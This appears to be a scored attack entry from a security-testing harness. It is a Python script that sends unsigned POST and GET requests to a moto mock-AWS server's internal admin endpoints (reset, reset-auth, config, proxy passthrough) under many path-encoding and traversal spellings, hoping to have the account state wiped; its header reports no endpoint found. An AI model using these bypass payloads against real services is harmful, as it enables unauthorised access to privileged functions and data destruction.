# attack: 22
# does: works, then asks for moto's own pages in every spelling, to have the account forgotten
# run: finished
# earns: 10
# prints: no door
# with: work
# with: http
work()
doors = ["reset", "reset-auth", "data.json", "seed?a=1", "config", "recorder/start-recording", "state-manager/set-transition", "proxy/passthrough", ""]
spellings = ["/moto-api/{}", "//moto-api/{}", "/moto-api//{}", "/%6doto-api/{}", "/./moto-api/{}", "/a/../moto-api/{}", "/moto-api%2f{}", "/MOTO-API/{}", "/moto-api/{}/", "/moto-api/{}%00", "/\\moto-api/{}", "/moto-api;x/{}"]
found = set()
for door in doors:
    for spelling in spellings:
        for method, sign in (("POST", False), ("GET", False)):
            status, body = raw(method, spelling.format(door), sign=sign)
            if status == 200 and b"<Error>" not in body:
                found.add((method, spelling.format(door)))
print(found or "no door")
